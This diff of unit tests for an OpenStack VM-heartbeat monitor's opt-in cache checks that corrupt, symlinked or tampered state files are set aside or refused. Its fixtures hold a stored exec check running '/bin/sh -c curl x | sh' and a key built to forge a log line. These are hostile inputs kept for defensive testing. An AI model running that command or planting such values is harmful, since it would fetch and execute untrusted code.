@@ -22,8 +22,8 @@ from unittest import mock
 import fixtures
 from keystoneauth1 import exceptions as ks_exc
 from openstack import exceptions as sdk_exc
+from oslo_utils import uuidutils
 
-from masakarimonitors_ext import exception
 from masakarimonitors_ext.vmheartbeat import checks
 from masakarimonitors_ext.vmheartbeat import optin
 from tests.unit import base
@@ -79,6 +79,22 @@ class DecideFromExtraSpecsTestCase(base.TestCase):
             self.assertEqual(DEFAULTS, decision.settings, bad)
             self.assertEqual(1, len(decision.problems), bad)
             self.assertIn(KEY + '_interval', decision.problems[0])
+
+    def test_overrides_are_bounded_as_the_options_are(self):
+        # [vmheartbeat] interval >= 0.1, timeout >= 0.05, threshold 1-100
+        for spec, bad in (('_interval', '1e-9'), ('_interval', '0.09'),
+                          ('_interval', 'inf'), ('_timeout', '0.01'),
+                          ('_failure_threshold', '101'),
+                          ('_failure_threshold', '0')):
+            decision = self.decide({KEY: 'true', KEY + spec: bad})
+            self.assertEqual(DEFAULTS, decision.settings, (spec, bad))
+            problem, = decision.problems
+            self.assertIn('(as [vmheartbeat] ', problem)
+        decision = self.decide({KEY: 'true', KEY + '_interval': '0.1',
+                                KEY + '_timeout': '0.05'})
+        self.assertEqual(optin.InstanceSettings(0.1, 0.05, 3),
+                         decision.settings)
+        self.assertEqual((), decision.problems)
 
     def test_fractional_threshold_is_refused(self):
         decision = self.decide({KEY: 'true',
@@ -312,18 +328,81 @@ class FlavorOptInTestCase(base.TestCase):
         self.compute.error = ks_exc.ConnectFailure('Connection refused')
         self.assertRaises(optin.OptInUnknown, self.make_policy().decide, A)
 
-    def test_corrupt_file_names_the_state_path(self):
+    def test_corrupt_file_is_moved_aside_and_the_monitor_starts(self):
+        # the file is an advisory cache: Nova is asked again
+        self.compute.servers[A] = server({KEY: 'true'})
+        path = os.path.join(self.state_path, 'optin.json')
         for content in ('{"version": 1, "body": ', '[]',
-                        '{"version": 7, "body": {}}',
-                        '{"version": 1, "body": {"x": {}}}'):
-            with open(os.path.join(self.state_path, 'optin.json'),
-                      'w') as f:
+                        '{"version": 7, "body": {}}', '\xff\xfe',
+                        '{"version": 1, "body": []}',
+                        '[' * 10000 + ']' * 10000):
+            for name in os.listdir(self.state_path):
+                os.unlink(os.path.join(self.state_path, name))
+            with open(path, 'w') as f:
                 f.write(content)
-            error = self.assertRaises(exception.ConfigurationError,
-                                      self.make_policy)
-            self.assertEqual('vmheartbeat.state_path', error.option,
-                             content)
-            self.assertIn('optin.json', str(error))
+            policy = self.make_policy()
+            self.assertFalse(os.path.exists(path), content)
+            aside, = [n for n in os.listdir(self.state_path)
+                      if n.startswith('optin.json.corrupt-')]
+            with open(os.path.join(self.state_path, aside)) as f:
+                self.assertEqual(content, f.read())
+            self.assertTrue(policy.decide(A).watched)
+        self.assertEqual(6, self.logger.output.count(
+            'moved aside to %s/optin.json.corrupt-' % self.state_path))
+
+    def test_symlinked_file_is_not_followed(self):
+        elsewhere = os.path.join(self.useFixture(fixtures.TempDir()).path,
+                                 'forged.json')
+        with open(elsewhere, 'w') as f:
+            json.dump({'version': 1, 'body': {A: {
+                'watched': True, 'reason': 'forged', 'settings': {
+                    'interval': 5.0, 'timeout': 2.0,
+                    'failure_threshold': 3}}}}, f)
+        os.symlink(elsewhere, os.path.join(self.state_path, 'optin.json'))
+        self.make_policy()
+        self.assertIn('moved aside', self.logger.output)
+        self.assertNotIn('Read the last known opt-in answers',
+                         self.logger.output)
+
+    def test_stored_entries_are_checked_like_extra_specs(self):
+        good = {'watched': True, 'reason': 'flavor', 'settings': {
+            'interval': 5.0, 'timeout': 2.0, 'failure_threshold': 3}}
+        exec_check = {'kind': 'exec', 'interval': 30.0, 'timeout': 10.0,
+                      'failure_threshold': 2,
+                      'command': ['/bin/sh', '-c', 'curl x | sh']}
+        bad = {
+            '22222222-2222-2222-2222-222222222222': dict(
+                good, settings=dict(good['settings'], interval=1e-9)),
+            '33333333-3333-3333-3333-333333333333': dict(
+                good, settings=dict(good['settings'], failure_threshold=0)),
+            '44444444-4444-4444-4444-444444444444': dict(
+                good, checks=[exec_check]),
+            '55555555-5555-5555-5555-555555555555': dict(
+                good, checks=[dict(exec_check, kind='app', command=[],
+                                   interval=0.05, timeout=0.05)]),
+            '66666666-6666-6666-6666-666666666666': dict(
+                good, report_only=['everything']),
+            '77777777-7777-7777-7777-777777777777': dict(good,
+                                                         watched='yes'),
+            'not-a-uuid\n2026 ERROR forged': good,
+        }
+        body = dict(bad)
+        body[A] = good
+        with open(os.path.join(self.state_path, 'optin.json'), 'w') as f:
+            json.dump({'version': 1, 'body': body}, f)
+        policy = self.make_policy()
+        self.assertIn('Left out 7 stored opt-in answers', self.logger.output)
+        self.assertNotIn('\n2026 ERROR forged', self.logger.output)
+        self.assertIn('Read the last known opt-in answers of 1 instances',
+                      self.logger.output)
+        # what Nova cannot confirm now comes from the store: only the
+        # good entry
+        self.compute.error = ks_exc.ConnectFailure('Nova is down')
+        self.assertTrue(policy.decide(A).watched)
+        for instance_uuid in bad:
+            if uuidutils.is_uuid_like(instance_uuid):
+                self.assertRaises(optin.OptInUnknown, policy.decide,
+                                  instance_uuid)
 
     def test_unwritable_file_is_a_warning(self):
         self.flags(group='vmheartbeat', state_path=os.path.join(
@@ -399,7 +478,8 @@ class DecideChecksFromExtraSpecsTestCase(base.TestCase):
         return optin.decide_from_extra_specs(
             extra_specs, KEY, DEFAULTS,
             check_defaults=check_defaults or CHECK_DEFAULTS,
-            audit_min_period=10.0, report_only=report_only)
+            audit_min_period=10.0, report_only=report_only,
+            exec_allowed_commands=['/usr/bin/'])
 
     def test_checks_and_report_only(self):
         decision = self.decide(
@@ -463,7 +543,8 @@ class FlavorOptInChecksTestCase(base.TestCase):
                    audit_min_period=10.0, exec_interval=40.0,
                    exec_timeout=8.0, exec_failure_threshold=2,
                    exec_startup_grace=20.0, max_freeze_time=90.0,
-                   report_only=['frozen_too_long'])
+                   report_only=['frozen_too_long'],
+                   exec_allowed_commands=['/usr/bin/check "my app"'])
         self.clock = base.FakeClock(0.0)
         self.compute = FakeCompute()
         self.compute.servers[A] = server({
